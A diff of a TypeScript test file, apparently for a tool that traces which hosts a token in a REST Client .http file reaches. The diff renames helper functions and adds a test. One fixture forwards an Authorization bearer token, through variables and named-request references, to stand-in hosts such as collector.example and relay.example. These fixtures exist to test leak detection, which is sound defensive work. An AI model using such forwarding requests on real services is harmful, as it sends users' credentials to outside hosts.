@@ -4,7 +4,7 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import * as fc from 'fast-check';
-import { isSameSite, receivingHostsAt, requestHostsAt, requestLineHost, requestsUsingVariable } from '../../src/core/restFile/requestHost';
+import { isSameSite, receivingHostsAt, requestLineHost, requestsSending } from '../../src/core/restFile/requestHost';
 import { parseRestFile } from '../../src/core/restFile/requestParser';
 import { CORPUS, corpusFiles } from './corpus';
 
@@ -36,7 +36,7 @@ describe('the host a request goes to', () => {
 	it('reads the requests under the cursors, with the file\'s own variables', () => {
 		const text = '@host = https://evil.example\n\n###\nGET {{host}}/a\n\n###\nGET https://user.telematicssdk.com/b\n';
 		const file = parseRestFile(text);
-		assert.deepEqual(requestHostsAt(file, [text.indexOf('GET {{host}}'), text.indexOf('GET https'), text.indexOf('/b')]), ['evil.example', 'user.telematicssdk.com']);
+		assert.deepEqual(receivingHostsAt(file, [text.indexOf('GET {{host}}'), text.indexOf('GET https'), text.indexOf('/b')]), ['evil.example', 'user.telematicssdk.com']);
 	});
 
 	it('a variable that refers to itself is not followed forever', () => {
@@ -83,9 +83,21 @@ describe('the hosts a token in the file reaches', () => {
 		assert.deepEqual(receivingHostsAt(file, [FILE.indexOf('eyJ.other')]), ['query.example']);
 	});
 
+	it('a request that others read by its name (REST Client\'s {{name.request.headers…}}) reaches them too, through variables as well', () => {
+		const text = [
+			'@copied = {{trips.request.headers.Authorization}}', '',
+			'### ours', '# @name trips', 'GET https://user.telematicssdk.com/v1/trips', 'Authorization: Bearer eyJ.ours.sig', '',
+			'### reads its header', 'GET https://collector.example/?h={{trips.request.headers.Authorization}}', '',
+			'### reads it through a variable', '// @name=second', 'POST https://relay.example/', 'X: {{copied}}', '',
+			'### reads the second by name', 'GET https://third.example/{{second.response.body.$}}', '',
+			'### a name that only starts like it', 'GET https://quiet.example/{{tripsOld.request.headers.Authorization}}', '',
+		].join('\n');
+		assert.deepEqual(receivingHostsAt(parseRestFile(text), [text.indexOf('eyJ.ours')]), ['user.telematicssdk.com', 'collector.example', 'relay.example', 'third.example']);
+	});
+
 	it('a variable that reads itself, or two that read each other, end the search', () => {
 		const loop = parseRestFile('@a = {{b}}\n@b = {{a}}\n\n###\nGET https://x.example/{{a}}\n');
-		assert.equal(requestsUsingVariable(loop, 'b').length, 1);
+		assert.equal(requestsSending(loop, { variables: ['b'] }).length, 1);
 	});
 
 	it('follows a chain of variables of any length to the request at its end, and never a name that only starts the same (generated)', () => {
@@ -104,7 +116,7 @@ describe('the hosts a token in the file reaches', () => {
 		for (const fileName of corpusFiles()) {
 			const parsed = parseRestFile(fs.readFileSync(path.join(CORPUS, fileName), 'utf8'));
 			for (const variable of parsed.variables) {
-				const readers = new Set(requestsUsingVariable(parsed, variable.name).map((r) => r.requestLine));
+				const readers = new Set(requestsSending(parsed, { variables: [variable.name] }).map((r) => r.requestLine));
 				for (const request of parsed.requests) {
 					const block = parsed.lines.slice(request.requestLine, request.blockEnd + 1).map((l) => l.text).join('\n');
 					if (block.includes(`{{${variable.name}}}`)) {
